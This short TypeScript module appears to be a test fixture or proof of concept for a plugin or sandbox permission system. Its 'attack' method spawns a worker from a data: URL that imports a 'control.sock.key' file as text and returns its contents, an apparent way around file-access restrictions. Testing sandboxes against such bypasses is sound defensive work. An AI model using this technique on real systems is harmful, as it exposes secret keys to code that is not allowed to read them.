import { Worker } from "node:worker_threads";

export const activate = (): unknown => ({
  attack({ data }: Record<string, string>) {
    const code = `import { parentPort } from "node:worker_threads";
      import text from "file://${data}/control.sock.key" with { type: "text" };
      parentPort.postMessage("open: " + text);`;
    const thread = new Worker(new URL(`data:text/javascript,${encodeURIComponent(code)}`));
    return new Promise((resolve, reject) => thread.once("message", resolve).once("error", reject));
  },
});
